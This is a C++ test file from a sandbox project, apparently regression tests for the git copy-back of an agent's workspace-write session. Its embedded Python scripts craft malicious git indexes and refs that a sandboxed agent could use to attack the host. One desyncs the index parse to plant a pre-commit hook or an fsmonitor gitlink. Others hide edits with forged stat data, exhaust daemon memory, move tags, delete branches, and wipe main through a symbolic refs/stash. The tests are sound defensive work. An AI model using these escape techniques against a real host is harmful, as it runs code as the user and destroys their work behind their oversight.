// Fourth outside review of "Git for agents" (docs/security.md; review 7 of the project): what a
// workspace-write session leaves in its private git directory that the copy-back hands to the
// host's git. Each test failed while its hole was open (root daemon and ptybox-ci); all pass
// since the fourteenth round (docs/security.md, "Git for agents": the index read as git reads
// it and in git's order, stat data the launch's index did not hold zeroed, only a remote's HEAD
// symbolic, a session's index over 64 MiB refused unread, the person's tags never moved and
// their branches and tags never deleted):
//  - the index is judged by ParseIndex, which reads each entry's name up to its NUL, while git
//    takes the length from the entry's flags: an index laid out so the two disagree shows the
//    copy-back harmless paths and git `.git/hooks/pre-commit` (the person's `git restore .`
//    writes it, their commit runs it) or a new gitlink (their `git status` runs the
//    core.fsmonitor of a repository the session made);
//  - every entry's stat data comes back as the session wrote it: the edited file's stat data
//    under the committed blob's id hides the edit from `git status`, `diff`, `restore`, `stash`;
//  - entries out of git's order pass: the person's next commit records an unsorted tree;
//  - the index is read, parsed and kept whole: 244 MiB cost the daemon 905 MiB at its peak and
//    264 MiB for as long as the session lives;
//  - a ref's value may be symbolic (`ref: refs/heads/main`), which skips every check: a
//    symbolic refs/stash makes the person's `git stash` delete main;
//  - the person's tags move and their branches vanish when the session says so (a rule to
//    decide, written as the test expects it).
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <iostream>
#include <string>

#include "tests/escape/escape_support.h"
#include "tests/escape/git_attack_support.h"
#include "tests/sandbox/process_runner.h"
#include "tests/support/files.h"

namespace ptybox::testing {
namespace {

using git_attack::HostGit;
using git_attack::kIdentity;
using git_attack::MakeRepository;
using git_attack::Slurp;

namespace fs = std::filesystem;
using sandbox::testing::RunResult;

// Rewrites .git/index (versions 2 and 3) in place: `stat UID GID` gives every entry the stat
// data of the worktree file at its path (owner as given: the host's view of the workspace's
// owner), keeping its object id; `reverse` puts the entries in the reverse of git's order. The
// extensions are dropped (the copy-back drops them anyway) and the checksum computed again.
constexpr const char* kIndexScript = R"PY(import hashlib, os, struct, sys
idx = open('.git/index', 'rb').read()
assert idx[:4] == b'DIRC'
version, count = struct.unpack('>II', idx[4:12])
entries, at = [], 12
for _ in range(count):
    flags = struct.unpack('>H', idx[at + 60:at + 62])[0]
    name = at + 62 + (2 if flags & 0x4000 else 0)
    nul = idx.index(b'\0', name)
    end = at + ((nul - at + 8) & ~7)
    entries.append(bytearray(idx[at:end]))
    at = end
if sys.argv[1] == 'stat':
    for e in entries:
        flags = struct.unpack('>H', e[60:62])[0]
        name = 62 + (2 if flags & 0x4000 else 0)
        path = bytes(e[name:e.index(b'\0', name)]).decode()
        st = os.lstat(path)
        e[0:24] = struct.pack('>IIIIII', int(st.st_ctime), st.st_ctime_ns % 10**9,
                              int(st.st_mtime), st.st_mtime_ns % 10**9,
                              st.st_dev & 0xffffffff, st.st_ino & 0xffffffff)
        e[28:40] = struct.pack('>III', int(sys.argv[2]), int(sys.argv[3]), st.st_size)
elif sys.argv[1] == 'reverse':
    entries.reverse()
body = idx[:12] + b''.join(entries)
open('.git/index.new', 'wb').write(body + hashlib.sha1(body).digest())
os.rename('.git/index.new', '.git/index')
print('index rewritten')
)PY";

// Writes .git/index as three entries that git and the copy-back's ParseIndex read at different
// offsets. git takes an entry's name length from its flags (when under 0xFFF); ParseIndex reads
// each name up to its NUL. The first entry's flags say 57 while its name ".escape/ok" ends after
// 10: git's second entry then starts 40 bytes after ParseIndex's second one, inside it, and the
// two views meet again at the end of the third. ParseIndex sees ".escape/ok", "qq" and a 54-byte
// name of binary bytes, each a harmless path; git sees ".escape/ok\0...", then either
// ".git/hooks/pre-commit" (mode 100755, the blob of a hook the script writes) or a gitlink `sub`
// (to a repository the script makes, with core.fsmonitor set), then "z". The script picks the
// hook's content (or sub's commit) so that its id's byte 18 (which ParseIndex reads as a mode)
// says "regular file", and z's so that its id (part of a name ParseIndex reads) holds no NUL,
// slash or backslash.
constexpr const char* kDesyncScript =
    R"PY(# An index whose entries git reads at one set of offsets (each name as long as its flags say) and
# the copy-back's ParseIndex at another (each name up to its NUL). `hook MARKER`: git sees
# .git/hooks/pre-commit (a hook that touches MARKER); `gitlink MARKER`: git sees a gitlink `sub`
# to a repository made here whose core.fsmonitor touches MARKER.
import hashlib, os, struct, subprocess, sys
kind, marker = sys.argv[1], sys.argv[2]
def git(*args, data=None):
    return subprocess.run(['git'] + list(args), input=data, capture_output=True,
                          check=True).stdout.decode().strip()
def blob_id(data):
    return bytes.fromhex(hashlib.sha1(b'blob %d\0' % len(data) + data).hexdigest())
# The evil entry's id: its byte 18 is what ParseIndex reads as the high byte of a mode's low
# half, so its top nibble must say "regular file".
n = 0
if kind == 'hook':
    name, mode = b'.git/hooks/pre-commit', 0o100755
    while True:
        hook = ('#!/bin/sh\ntouch %s\n# %d\n' % (marker, n)).encode()
        evil_id = blob_id(hook)
        if evil_id[18] >> 4 == 8: break
        n += 1
    git('hash-object', '-w', '--stdin', data=hook)
else:
    name, mode = b'sub', 0o160000
    git('init', '-q', 'sub')
    git('-C', 'sub', 'commit', '-q', '--allow-empty', '-m', 's')
    while True:
        evil_id = bytes.fromhex(git('-C', 'sub', 'rev-parse', 'HEAD'))
        if evil_id[18] >> 4 == 8: break
        n += 1
        git('-C', 'sub', 'commit', '-q', '--amend', '--allow-empty', '-m', 's %d' % n)
    git('-C', 'sub', 'config', 'core.fsmonitor', 'touch %s; false' % marker)
n = 0
while True:  # z's id is part of a name ParseIndex reads: no NUL, slash or backslash
    z = ('z %d\n' % n).encode()
    z_id = blob_id(z)
    if not any(c in z_id for c in b'\0/\\'): break
    n += 1
git('hash-object', '-w', '--stdin', data=z)
a_id = bytes.fromhex(git('hash-object', '-w', '--stdin', data=b'one\n'))
x = 164                                   # ParseIndex's third entry
g2 = x - 32                               # git's second entry
g3 = g2 + ((62 + len(name) + 8) & ~7)     # git's third entry
end = g3 + 64
assert len(name) <= 29 and end == x + ((62 + (g3 + 60 - x - 62) + 8) & ~7)
buf = bytearray(end)
buf[0:12] = b'DIRC' + struct.pack('>II', 2, 3)
def put(at, data): buf[at:at + len(data)] = data
# Entry 1 at 12, the same for both: git reads a 57-byte name, ParseIndex ".escape/ok".
put(12 + 24, struct.pack('>I', 0o100644)); put(12 + 40, a_id); put(12 + 60, struct.pack('>H', 57))
put(74, b'.escape/ok\0')
# ParseIndex's second entry at 92 (inside git's first name): its oid and flags are git's second
# entry's first bytes, its name "qq" that entry's inode, its NUL the first byte of that mode.
put(92, b'\x01' * 24); put(116, struct.pack('>I', 0o100644)); put(120, b'\x01' * 11)
put(g2, b'\x01' * 20); put(g2 + 20, b'\0\0qq'); put(g2 + 24, struct.pack('>I', mode))
put(g2 + 28, b'\x01' * 12); put(g2 + 40, evil_id); put(g2 + 60, struct.pack('>H', len(name)))
put(g2 + 62, name + b'\0')
# git's third entry "z": its bytes up to its flags are ParseIndex's third name (no NUL), its
# flags' high byte that name's NUL, the two bytes under ParseIndex's flags zero.
put(g3, b'\x01' * 60); put(x + 60, b'\0\0'); put(g3 + 24, bytes([1, 1, 0x81, 0xa4]))
put(g3 + 40, z_id); put(g3 + 60, struct.pack('>H', 1)); put(g3 + 62, b'z\0')
body = bytes(buf)
open('.git/index.new', 'wb').write(body + hashlib.sha1(body).digest())
os.rename('.git/index.new', '.git/index')
print('index rewritten')
)PY";

void WriteIndexScript(const fs::path& ws) {
  std::ofstream(ws / ".escape" / "index.py") << kIndexScript;
  std::ofstream(ws / ".escape" / "desync.py") << kDesyncScript;
}

// The session writes the hook's blob and the index of kDesyncScript; each path the copy-back reads
// passes, so the host gets it. The person's `git status` shows `.git/hooks/pre-commit` deleted;
// `git restore .` (discarding the agent's changes, as in GitReviewAttackTest) writes it, and their
// next commit runs it.
TEST(GitReview4AttackTest, AnIndexGitReadsOtherwiseThanTheCopyBackNeverBecomesAHostHook) {
  git_attack::GitWriteSession git;
  auto& [daemon, ws, client, id] = git;
  ASSERT_NO_FATAL_FAILURE(MakeRepository(ws));
  WriteIndexScript(ws);
  TempDir host;
  ASSERT_EQ(::chmod(host.path().c_str(), 0777), 0);
  const fs::path marker = host.path() / "ran";
  ASSERT_NO_FATAL_FAILURE(git.OpenSession());
  Observed did = RunInSession(client, id, "workspace-write", "desync-index",
                              "python3 .escape/desync.py hook " + marker.string());
  std::cout << "  observed " << did.Show() << "\n";
  ASSERT_TRUE(did.Says("index rewritten")) << did.Show();
  RunResult files = HostGit(ws, {"ls-files", "-s"});
  std::cout << "  host ls-files: " << files.out << files.err << "\n";
  RunResult restore = HostGit(ws, {"restore", "."});
  std::cout << "  host restore: " << restore.exit_code << " " << restore.err << "\n";
  RunResult commit = HostGit(ws, {"commit", "-q", "--allow-empty", "-m", "mine"});
  std::cout << "  host commit: " << commit.exit_code << " " << commit.err << "\n";
  EXPECT_FALSE(fs::exists(ws / ".git" / "hooks" / "pre-commit"))
      << "the host's `git restore .` wrote a hook from an index the copy-back let through\n"
      << daemon.Log();
  EXPECT_FALSE(fs::exists(marker))
      << "the person's `git commit` ran a hook the session wrote (as the person)\n"
      << daemon.Log();
}

// The same index with a gitlink in the middle: IndexForHost refuses a new gitlink, but it never
// sees this one. The person's plain `git status` enters `sub`, the session's repository, and runs
// its core.fsmonitor (the hole GitReview2AttackTest closed for a gitlink ParseIndex can see).
TEST(GitReview4AttackTest, AnIndexGitReadsOtherwiseThanTheCopyBackNeverAddsAGitlink) {
  git_attack::GitWriteSession git;
  auto& [daemon, ws, client, id] = git;
  ASSERT_NO_FATAL_FAILURE(MakeRepository(ws));
  WriteIndexScript(ws);
  TempDir host;
  ASSERT_EQ(::chmod(host.path().c_str(), 0777), 0);
  const fs::path marker = host.path() / "ran";
  ASSERT_NO_FATAL_FAILURE(git.OpenSession());
  Observed did = RunInSession(client, id, "workspace-write", "desync-gitlink",
                              std::string(kIdentity) + "python3 .escape/desync.py gitlink " +
                                  marker.string() + " && rm -f " + marker.string());
  std::cout << "  observed " << did.Show() << "\n";
  ASSERT_TRUE(did.Says("index rewritten")) << did.Show();
  ASSERT_FALSE(fs::exists(marker));
  RunResult files = HostGit(ws, {"ls-files", "-s"});
  std::cout << "  host ls-files: " << files.out << files.err << "\n";
  RunResult status = HostGit(ws, {"status", "--short"});
  std::cout << "  host status: " << status.exit_code << " " << status.out << status.err << "\n";
  EXPECT_FALSE(fs::exists(marker))
      << "the person's `git status` ran the core.fsmonitor of a repository the session made, "
         "through a gitlink the copy-back never saw\n"
      << daemon.Log();
}

// The session replaces a.txt's content ("one" becomes "EVIL"), waits a second (so that the file
// is older than any index written after it), and gives a.txt's index entry the file's stat data
// while keeping the committed blob's id. No flag is set, no path is odd, no extension is kept:
// IndexForHost passes it and the host gets it. The person looks at what the agent did and
// throws its uncommitted edits away.
TEST(GitReview4AttackTest, AnIndexWithTheEditedFilesStatDataNeverHidesTheEditFromTheHost) {
  git_attack::GitWriteSession git;
  auto& [daemon, ws, client, id] = git;
  ASSERT_NO_FATAL_FAILURE(MakeRepository(ws));
  WriteIndexScript(ws);
  struct stat owner {};
  ASSERT_EQ(::stat((ws / "a.txt").c_str(), &owner), 0);
  ASSERT_NO_FATAL_FAILURE(git.OpenSession());
  const std::string work =
      "printf 'EVIL\\n' > a.txt && sleep 1.2 && python3 .escape/index.py stat " +
      std::to_string(owner.st_uid) + " " + std::to_string(owner.st_gid) +
      " && git status --porcelain | wc -l && echo forged";
  Observed did = RunInSession(client, id, "workspace-write", "stat-forged-index", work);
  std::cout << "  observed " << did.Show() << "\n";
  ASSERT_TRUE(did.Says("forged")) << did.Show();
  ASSERT_EQ(Slurp(ws / "a.txt"), "EVIL\n");
  RunResult status = HostGit(ws, {"status", "--porcelain"});
  RunResult diff = HostGit(ws, {"diff", "--stat"});
  std::cout << "  host status: [" << status.out << "] diff: [" << diff.out << "]\n";
  EXPECT_NE(status.out.find("a.txt"), std::string::npos)
      << "the host's `git status` does not show the session's edit of a tracked file: the index "
         "the copy-back wrote carries the edited file's stat data under the committed blob's id\n"
      << daemon.Log();
  // The person discards the agent's uncommitted work.
  RunResult restore = HostGit(ws, {"restore", "."});
  std::cout << "  host restore: " << restore.exit_code << " " << restore.err << "\n";
  EXPECT_EQ(Slurp(ws / "a.txt"), "one\n")
      << "`git restore .` kept the session's edit of a.txt (git took it for unchanged)\n"
      << daemon.Log();
}

// The session writes its index with the entries in the reverse of git's order (.gitignore and
// a.txt swapped; each path fine, no flag). The host's git reads it without a word; the person's
// next commit, of a file of their own, records a tree out of order.
TEST(GitReview4AttackTest, AnIndexOutOfOrderNeverCorruptsThePersonsNextCommit) {
  git_attack::GitWriteSession git;
  auto& [daemon, ws, client, id] = git;
  ASSERT_NO_FATAL_FAILURE(MakeRepository(ws));
  WriteIndexScript(ws);
  ASSERT_NO_FATAL_FAILURE(git.OpenSession());
  Observed did = RunInSession(client, id, "workspace-write", "unsorted-index",
                              "python3 .escape/index.py reverse && echo reordered");
  std::cout << "  observed " << did.Show() << "\n";
  ASSERT_TRUE(did.Says("reordered")) << did.Show();
  RunResult files = HostGit(ws, {"ls-files"});
  std::cout << "  host ls-files: " << files.out << "\n";
  // The person's own work, committed as usual.
  std::ofstream(ws / "c.txt") << "three\n";
  ASSERT_EQ(HostGit(ws, {"add", "c.txt"}).exit_code, 0);
  RunResult commit = HostGit(ws, {"commit", "-q", "-m", "mine"});
  ASSERT_EQ(commit.exit_code, 0) << commit.err;
  RunResult show = HostGit(ws, {"show", "HEAD:a.txt"});
  RunResult fsck = HostGit(ws, {"fsck", "--no-dangling"});
  std::cout << "  host show HEAD:a.txt: " << show.exit_code << " " << show.err
            << "  host fsck: " << fsck.exit_code << " " << fsck.out << fsck.err << "\n";
  EXPECT_EQ(show.exit_code, 0)
      << "the person's commit after the copy-back cannot find a.txt in its own tree\n"
      << daemon.Log();
  EXPECT_EQ(fsck.exit_code, 0)
      << "the person's repository fails `git fsck` after their own commit: the index the "
         "copy-back wrote had its entries out of order\n"
      << daemon.Log();
}

// The copy-back moves and deletes any branch or tag the session changed, the person's included:
// only the compare-and-swap against the launch's value is checked. The person has a release tag
// `v1` (annotated) and a branch `feature` with a commit of their own that no other ref holds.
// The session re-points `v1` at a commit it made (`git tag -f`) and deletes `feature`
// (`git branch -D`). git itself refuses to move an existing tag on a fetch without --force
// ("would clobber existing tag"); here the person's `v1` silently names the agent's commit, and
// their `feature` is gone (its commit reachable from no ref).
TEST(GitReview4AttackTest, ThePersonsTagsNeverMoveAndTheirBranchesNeverVanish) {
  git_attack::GitWriteSession git;
  auto& [daemon, ws, client, id] = git;
  ASSERT_NO_FATAL_FAILURE(MakeRepository(ws));
  ASSERT_EQ(HostGit(ws, {"tag", "-a", "-m", "release", "v1"}).exit_code, 0);
  ASSERT_EQ(HostGit(ws, {"checkout", "-q", "-b", "feature"}).exit_code, 0);
  std::ofstream(ws / "f.txt") << "feature work\n";
  ASSERT_EQ(HostGit(ws, {"add", "f.txt"}).exit_code, 0);
  ASSERT_EQ(HostGit(ws, {"commit", "-q", "-m", "feature work"}).exit_code, 0);
  ASSERT_EQ(HostGit(ws, {"checkout", "-q", "main"}).exit_code, 0);
  const std::string tag_before = HostGit(ws, {"rev-parse", "v1^{commit}"}).out;
  const std::string feature_before = HostGit(ws, {"rev-parse", "feature"}).out;
  ASSERT_NO_FATAL_FAILURE(git.OpenSession());
  const std::string work = std::string(kIdentity) +
                           "echo agent > a.txt && git commit -qam agent && "
                           "git tag -f -a -m release v1 >/dev/null && git branch -q -D feature && "
                           "echo rewritten";
  Observed did = RunInSession(client, id, "workspace-write", "person-refs", work);
  std::cout << "  observed " << did.Show() << "\n";
  ASSERT_TRUE(did.Says("rewritten")) << did.Show();
  EXPECT_EQ(HostGit(ws, {"rev-parse", "v1^{commit}"}).out, tag_before)
      << "the person's tag v1 now names the agent's commit\n"
      << daemon.Log();
  EXPECT_EQ(HostGit(ws, {"rev-parse", "--verify", "-q", "feature"}).out, feature_before)
      << "the person's branch feature was deleted by the session\n"
      << daemon.Log();
}

// The copy-back reads the session's index whole (up to kGitIndexMax, 256 MiB), parses every
// entry into a vector, builds the host's copy beside it, and the snapshot keeps that copy for as
// long as the session lives (to compare the host's index with at the next copy-back). A session
// writes an index of 4,000,000 one-letter entries (244 MiB; each entry passes); the daemon's
// peak and lasting memory grow by several times that, per session, and an owner may hold 16
// sessions (limits.max_sessions), each copying back at once: the daemon, every owner's, is what
// the kernel's OOM killer then ends.
TEST(GitReview4AttackTest, ASessionsIndexNeverCostsTheDaemonItsSizeInMemory) {
  git_attack::GitWriteSession git;
  auto& [daemon, ws, client, id] = git;
  ASSERT_NO_FATAL_FAILURE(MakeRepository(ws));
  std::ofstream(ws / ".escape" / "big.py") << R"PY(import hashlib, struct
entry = bytearray(64)
entry[24:28] = struct.pack('>I', 0o100644)
entry[60:62] = struct.pack('>H', 1)
entry[62] = ord('x')
count = 4000000
body = b'DIRC' + struct.pack('>II', 2, count) + bytes(entry) * count
open('.git/index', 'wb').write(body + hashlib.sha1(body).digest())
print('index of', len(body) >> 20, 'MiB')
)PY";
  ASSERT_NO_FATAL_FAILURE(git.OpenSession());
  // The control: a copy-back of an ordinary index first, so that what the daemon allocates for
  // any copy-back (its threads' arenas, the host git it runs) is in the figure before.
  Observed warm = RunInSession(client, id, "workspace-write", "small-index",
                               "echo x > warm.txt && git add warm.txt && echo warm");
  ASSERT_TRUE(warm.Says("warm")) << warm.Show();
  const long rss_before = ProcStatusKib(daemon.pid(), "VmRSS");
  Observed did = RunInSession(client, id, "workspace-write", "big-index", "python3 .escape/big.py");
  std::cout << "  observed " << did.Show() << "\n";
  ASSERT_TRUE(did.Says("MiB")) << did.Show();
  const long peak = ProcStatusKib(daemon.pid(), "VmHWM");
  const long rss_after = ProcStatusKib(daemon.pid(), "VmRSS");
  std::cout << "  daemon RSS before " << rss_before / 1024 << " MiB, peak " << peak / 1024
            << " MiB, after " << rss_after / 1024 << " MiB; host index "
            << (fs::exists(ws / ".git" / "index") ? fs::file_size(ws / ".git" / "index") >> 20 : 0)
            << " MiB\n";
  EXPECT_LT(peak - rss_before, 64 * 1024)
      << "one session's index raised the daemon's peak memory by " << (peak - rss_before) / 1024
      << " MiB\n";
  EXPECT_LT(rss_after - rss_before, 16 * 1024)
      << "the daemon keeps " << (rss_after - rss_before) / 1024
      << " MiB for one session's index while the session lives\n";
}

// A ref's value may be `ref: refs/...` (ValidRefValue), and such a value skips the object and
// gitlink checks (they run only for a hex id): the session makes refs/stash a symbolic ref to
// refs/heads/main (`git symbolic-ref`), and the host gets it. The person has no stash yet, so
// their next `git stash` finds no reflog for refs/stash and "clears" the stash first: git's
// delete_ref follows the symbolic ref and deletes main, with its reflog; the stash then fails
// ("You do not have the initial commit yet"), and the person's history is reachable from no ref.
TEST(GitReview4AttackTest, ASymbolicStashNeverMakesThePersonsStashDeleteTheirBranch) {
  git_attack::GitWriteSession git;
  auto& [daemon, ws, client, id] = git;
  ASSERT_NO_FATAL_FAILURE(MakeRepository(ws));
  const std::string main_before = HostGit(ws, {"rev-parse", "main"}).out;
  ASSERT_NO_FATAL_FAILURE(git.OpenSession());
  Observed did = RunInSession(client, id, "workspace-write", "symbolic-stash",
                              "git symbolic-ref refs/stash refs/heads/main && echo linked");
  std::cout << "  observed " << did.Show() << "\n";
  ASSERT_TRUE(did.Says("linked")) << did.Show();
  RunResult symbolic = HostGit(ws, {"symbolic-ref", "-q", "refs/stash"});
  std::cout << "  host refs/stash: " << symbolic.exit_code << " " << symbolic.out << "\n";
  EXPECT_NE(symbolic.exit_code, 0) << "the host's refs/stash is a symbolic ref the session made\n"
                                   << daemon.Log();
  // The person stashes an edit of their own.
  std::ofstream(ws / "a.txt", std::ios::app) << "mine\n";
  RunResult stash = HostGit(ws, {"stash"});
  std::cout << "  host stash: " << stash.exit_code << " " << stash.out << stash.err << "\n";
  EXPECT_EQ(HostGit(ws, {"rev-parse", "--verify", "-q", "main"}).out, main_before)
      << "the person's `git stash` deleted their branch main through the session's symbolic "
         "refs/stash\n"
      << daemon.Log();
}

}  // namespace
}  // namespace ptybox::testing
